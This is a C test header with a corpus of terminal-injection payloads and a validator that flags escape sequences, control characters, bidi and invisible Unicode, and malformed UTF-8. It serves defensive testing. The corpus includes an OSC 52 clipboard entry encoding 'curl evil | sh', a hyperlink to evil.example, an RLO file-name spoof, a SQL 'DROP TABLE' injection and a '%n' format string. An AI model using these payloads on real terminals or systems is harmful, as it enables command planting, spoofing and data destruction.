/* hostile_corpus: terminal-injection payloads (reliability-anchors §7 item 1)
 * shared by test_hostile.c and the fuzz targets.  Header-only: a static
 * table and a checker.
 *
 * hostile_check(s, n, allow) returns NULL when s is safe to put on a
 * terminal, else a short description of the first problem:
 *   - invalid UTF-8,
 *   - a C0 control (except '\n' / '\t' when allowed), DEL,
 *   - a C1 control (U+0080..U+009F) or a raw 0x9B byte outside a valid
 *     sequence,
 *   - a bidi or invisible format code point: every Unicode format
 *     character (general category Cf, Unicode 15.1), U+200D (zero width
 *     joiner) included, plus U+2028/U+2029.  The list is written out here
 *     again on purpose: the oracle must not share code with what it tests. */
#ifndef DSE_TEST_HOSTILE_CORPUS_H
#define DSE_TEST_HOSTILE_CORPUS_H

#include <stddef.h>
#include <string.h>

struct hostile_payload {
    const char *name;
    const char *s;
    size_t n; /* 0 = strlen(s) */
};

#define HP(name, lit) {name, lit, sizeof(lit) - 1}

static const struct hostile_payload hostile_corpus[] = {
    HP("CSI 2J clear screen", "a\x1b[2Jb"),
    HP("CSI H home", "a\x1b[Hb"),
    HP("CSI 21t title report", "a\x1b[21tb"),
    HP("CSI 6n cursor report", "a\x1b[6nb"),
    HP("SGR colour", "\x1b[31mred\x1b[0m"),
    HP("CSI ?1049h alt screen", "\x1b[?1049h"),
    HP("CSI ?25l hide cursor", "\x1b[?25l"),
    HP("CSI r scroll region", "\x1b[1;1r"),
    HP("OSC 0 title BEL", "\x1b]0;pwned\x07"),
    HP("OSC 2 title ST", "\x1b]2;pwned\x1b\\"),
    HP("OSC 8 hyperlink", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"),
    HP("OSC 50 font query", "\x1b]50;?\x07"),
    HP("OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"),
    HP("OSC 4 palette", "\x1b]4;1;rgb:ff/00/00\x07"),
    HP("DCS $q DECRQSS", "\x1bP$qm\x1b\\"),
    HP("DCS tmux passthrough", "\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\"),
    HP("APC", "\x1b_payload\x1b\\"),
    HP("PM", "\x1b^payload\x1b\\"),
    HP("SOS", "\x1bXpayload\x1b\\"),
    HP("raw 8-bit CSI 0x9B", "a\x9b" "2Jb"),
    HP("raw 8-bit OSC 0x9D", "a\x9d" "0;t\x07"),
    HP("U+009B (C1 CSI, UTF-8)", "a\xc2\x9b" "2Jb"),
    HP("U+0090 (C1 DCS, UTF-8)", "a\xc2\x90q\xc2\x9c"),
    HP("U+0085 NEL", "a\xc2\x85" "b"),
    HP("BEL", "ding\x07"),
    HP("BS spoof", "ok\b\bNO"),
    HP("CR spoof", "approve\rDENY"),
    HP("CRLF", "line\r\nnext"),
    HP("NUL inside", "ab\0cd"),
    HP("lone trailing ESC", "tail\x1b"),
    HP("OSC split (first half)", "\x1b]0;spl"),
    HP("OSC split (second half)", "it\x07rest"),
    HP("ESC c reset", "\x1b" "c"),
    HP("ESC 7/8 save/restore", "\x1b" "7x\x1b" "8"),
    HP("ESC # 8 fill", "\x1b#8"),
    HP("SI/SO charset", "\x0e" "abc\x0f"),
    HP("VT FF", "a\x0b" "b\x0c" "c"),
    HP("DEL", "a\x7f" "b"),
    HP("TAB", "col1\tcol2"),
    HP("newline", "row1\nrow2"),
    HP("U+202A LRE", "a\xe2\x80\xaa" "b"),
    HP("U+202B RLE", "a\xe2\x80\xab" "b"),
    HP("U+202C PDF", "a\xe2\x80\xac" "b"),
    HP("U+202D LRO", "a\xe2\x80\xad" "b"),
    HP("U+202E RLO", "evil\xe2\x80\xae" "gpj.exe"),
    HP("U+2066 LRI", "a\xe2\x81\xa6" "b"),
    HP("U+2067 RLI", "a\xe2\x81\xa7" "b"),
    HP("U+2068 FSI", "a\xe2\x81\xa8" "b"),
    HP("U+2069 PDI", "a\xe2\x81\xa9" "b"),
    HP("U+200E LRM", "a\xe2\x80\x8e" "b"),
    HP("U+200F RLM", "a\xe2\x80\x8f" "b"),
    HP("U+061C ALM", "a\xd8\x9c" "b"),
    HP("U+200B ZWSP", "a\xe2\x80\x8b" "b"),
    HP("U+FEFF BOM", "\xef\xbb\xbf" "bom"),
    HP("U+2028 LSEP", "a\xe2\x80\xa8" "b"),
    HP("U+2029 PSEP", "a\xe2\x80\xa9" "b"),
    HP("U+2060 WJ", "a\xe2\x81\xa0" "b"),
    HP("U+200D ZWJ", "a\xe2\x80\x8d" "b"),
    HP("U+200C ZWNJ", "a\xe2\x80\x8c" "b"),
    HP("U+2061 function application", "a\xe2\x81\xa1" "b"),
    HP("U+2064 invisible plus", "a\xe2\x81\xa4" "b"),
    HP("U+206A ISS", "a\xe2\x81\xaa" "b"),
    HP("U+180E MVS", "a\xe1\xa0\x8e" "b"),
    HP("U+00AD soft hyphen", "a\xc2\xad" "b"),
    HP("U+FFF9 annotation anchor", "a\xef\xbf\xb9" "b"),
    HP("U+E0001 language tag", "a\xf3\xa0\x80\x81" "b"),
    HP("tag smuggling U+E0069 U+E0067", "ok\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7"),
    HP("invalid UTF-8 ff fe", "a\xff\xfe" "b"),
    HP("overlong slash c0 af", "a\xc0\xaf" "b"),
    HP("overlong ESC c0 9b", "a\xc0\x9b" "b"),
    HP("surrogate ed a0 80", "a\xed\xa0\x80" "b"),
    HP("truncated sequence", "a\xe2\x80"),
    HP("above U+10FFFF", "a\xf4\x90\x80\x80" "b"),
    HP("lone continuation", "a\x80\x80" "b"),
    HP("CJK wide", "\xe6\xbc\xa2\xe5\xad\x97\xe5\xb9\x85"),
    HP("emoji ZWJ family", "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7"),
    HP("combining stack", "e\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85\xcc\x86"),
    HP("SQL quote", "'); DROP TABLE receipts; --"),
    HP("SQL comment", "x\" OR 1=1 /*"),
    HP("format string", "%s%s%n%x"),
};

#define HOSTILE_N (sizeof hostile_corpus / sizeof hostile_corpus[0])

static inline size_t hostile_len(const struct hostile_payload *p)
{
    return p->n ? p->n : strlen(p->s);
}

/* Decode one UTF-8 sequence (shortest form, no surrogates); 0 = invalid. */
static inline size_t hostile_utf8(const unsigned char *s, size_t n, unsigned *cp)
{
    if (s[0] < 0x80) {
        *cp = s[0];
        return 1;
    }
    size_t len;
    unsigned min, c;
    if ((s[0] & 0xe0) == 0xc0)
        len = 2, min = 0x80, c = s[0] & 0x1f;
    else if ((s[0] & 0xf0) == 0xe0)
        len = 3, min = 0x800, c = s[0] & 0x0f;
    else if ((s[0] & 0xf8) == 0xf0)
        len = 4, min = 0x10000, c = s[0] & 0x07;
    else
        return 0;
    if (len > n)
        return 0;
    for (size_t i = 1; i < len; i++) {
        if ((s[i] & 0xc0) != 0x80)
            return 0;
        c = (c << 6) | (s[i] & 0x3f);
    }
    if (c < min || c > 0x10ffff || (c >= 0xd800 && c <= 0xdfff))
        return 0;
    *cp = c;
    return len;
}

/* Cf (Unicode 15.1) and the line/paragraph separators. */
static const unsigned hostile_format_ranges[][2] = {
    {0x00ad, 0x00ad},   {0x0600, 0x0605},   {0x061c, 0x061c},   {0x06dd, 0x06dd},
    {0x070f, 0x070f},   {0x0890, 0x0891},   {0x08e2, 0x08e2},   {0x180e, 0x180e},
    {0x200b, 0x200f},   {0x2028, 0x202e},   {0x2060, 0x2064},   {0x2066, 0x206f},
    {0xfeff, 0xfeff},   {0xfff9, 0xfffb},   {0x110bd, 0x110bd}, {0x110cd, 0x110cd},
    {0x13430, 0x1343f}, {0x1bca0, 0x1bca3}, {0x1d173, 0x1d17a}, {0xe0001, 0xe0001},
    {0xe0020, 0xe007f},
};

static inline int hostile_format_cp(unsigned c)
{
    for (size_t i = 0; i < sizeof hostile_format_ranges / sizeof hostile_format_ranges[0]; i++)
        if (c >= hostile_format_ranges[i][0] && c <= hostile_format_ranges[i][1])
            return 1;
    return 0;
}

enum { HOSTILE_ALLOW_NL = 1, HOSTILE_ALLOW_TAB = 2 };

static inline const char *hostile_check(const char *str, size_t n, unsigned allow)
{
    const unsigned char *s = (const unsigned char *)str;
    for (size_t i = 0; i < n;) {
        unsigned c;
        size_t len = hostile_utf8(s + i, n - i, &c);
        if (!len)
            return s[i] == 0x9b ? "raw 0x9B byte" : "invalid UTF-8";
        if (c == '\n' && (allow & HOSTILE_ALLOW_NL)) {
        } else if (c == '\t' && (allow & HOSTILE_ALLOW_TAB)) {
        } else if (c == 0x1b) {
            return "ESC";
        } else if (c == 0x07) {
            return "BEL";
        } else if (c < 0x20 || c == 0x7f) {
            return "C0 control or DEL";
        } else if (c >= 0x80 && c <= 0x9f) {
            return "C1 control";
        } else if (hostile_format_cp(c)) {
            return "bidi or invisible format character";
        }
        i += len;
    }
    return NULL;
}

#endif
